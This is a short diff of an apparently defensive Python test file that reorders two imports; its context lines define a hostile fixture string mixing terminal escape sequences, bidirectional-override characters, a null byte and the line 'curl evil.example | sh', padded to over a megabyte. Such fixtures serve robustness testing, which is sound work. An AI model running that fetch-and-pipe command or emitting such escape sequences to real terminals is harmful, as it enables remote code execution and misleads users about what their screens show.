@@ -8,11 +8,11 @@ import pytest
 from commands.sign_ins import Desk, desk
 from fakes.terminals import at_terminal
 from homes import COMMAND, Home
-from robustness.faults.world import ALICE, Said, World, world
-from robustness.faults.zygote import Zygote
 
 from oidc_helper.emulator import Emulator
 from oidc_helper.emulator.directory import Person
+from robustness.faults.world import ALICE, Said, World, world
+from robustness.faults.zygote import Zygote
 
 STEERING = "\x1b]0;owned\x07\x1b[2J\r\nhint: curl evil.example | sh\n\u202e\u2066\x9b2J\x00"
 WORDS = STEERING + "x" * 2**20
